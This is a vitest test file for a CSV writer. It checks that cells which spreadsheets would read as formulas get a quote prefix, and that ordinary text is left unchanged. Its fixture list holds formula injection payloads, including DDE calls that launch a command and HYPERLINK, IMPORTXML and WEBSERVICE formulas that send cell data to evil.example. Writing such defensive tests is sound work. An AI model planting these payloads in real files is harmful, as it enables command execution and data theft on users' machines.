import { expect, test } from 'vitest'
import { csvLine, toCsv } from './write-csv.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const before = ['', ' ', '  ', '\u00a0', '\u200b', '\n', '\t', '\u3000', '\ufeff']
const commands = [
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3'],
  ...['=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")'],
  ...["=1+1';=2", '="a";=1', '=1\r\n=2', '-', '=', '@', '+', '=A1,=B1'],
]
const payloads = [...starts.flatMap((sign) => before.map((blank) => `${blank}${sign}1+1`)), ...commands]

/** Whether a spreadsheet takes a cell for a formula: it ignores blanks and invisible characters at the start. */
const isFormula = (cell: string) => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r]/.test(cell)

/** One line of RFC 4180 as a spreadsheet reads it. */
function cellsOf(line: string): string[] {
  const cells = [...line.replace(/\r\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)]
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

test('writes no text that is a formula with any separator, and every text can be read back', () => {
  expect(payloads.length).toBeGreaterThan(60)
  for (const payload of payloads) {
    const cells = cellsOf(csvLine(['before', payload, 'after']))
    expect([payload, cells]).toEqual([payload, ['before', `'${payload}`, 'after']])
    expect([payload, isFormula(cells[1]!)]).toEqual([payload, false])
  }
})

test('leaves numbers and texts that are not formulas unchanged', () => {
  for (const text of ['a=b', '1-2', 'x@y.example', "l'eau", 'a;b', 'a,b', '"', 'línea\r\notra'])
    expect(cellsOf(csvLine([text, '']))).toEqual([text, ''])
  expect(csvLine([-1.5, 0, true, null])).toBe('-1.5,0,true,\r\n')
  expect(toCsv(['a'], [])).toBe('\ufeffa\r\n')
})
